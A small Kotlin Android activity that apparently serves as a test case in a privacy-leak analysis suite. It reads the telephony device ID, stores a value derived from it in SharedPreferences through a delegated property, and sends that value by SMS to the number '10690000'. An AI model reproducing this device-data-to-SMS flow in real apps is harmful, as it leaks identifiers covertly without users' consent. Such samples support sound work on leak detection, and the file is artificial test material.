package cn.privlens.suite.delegated_prefs_other

import android.app.Activity
import android.content.Context
import android.content.SharedPreferences
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager
import kotlin.reflect.KProperty

class Pref(private val p: SharedPreferences) {
    operator fun getValue(owner: Any?, prop: KProperty<*>): String = p.getString(prop.name, "") ?: ""
    operator fun setValue(owner: Any?, prop: KProperty<*>, v: String) { p.edit().putString(prop.name, v).apply() }
}
class Main : Activity() {
    private val prefs by lazy { getSharedPreferences("d", Context.MODE_PRIVATE) }
    private var device: String by Pref(getSharedPreferences("d", 0))
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        device = "n" + (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).deviceId.length
        SmsManager.getDefault().sendTextMessage("10690000", null, device, null, null)
    }
}
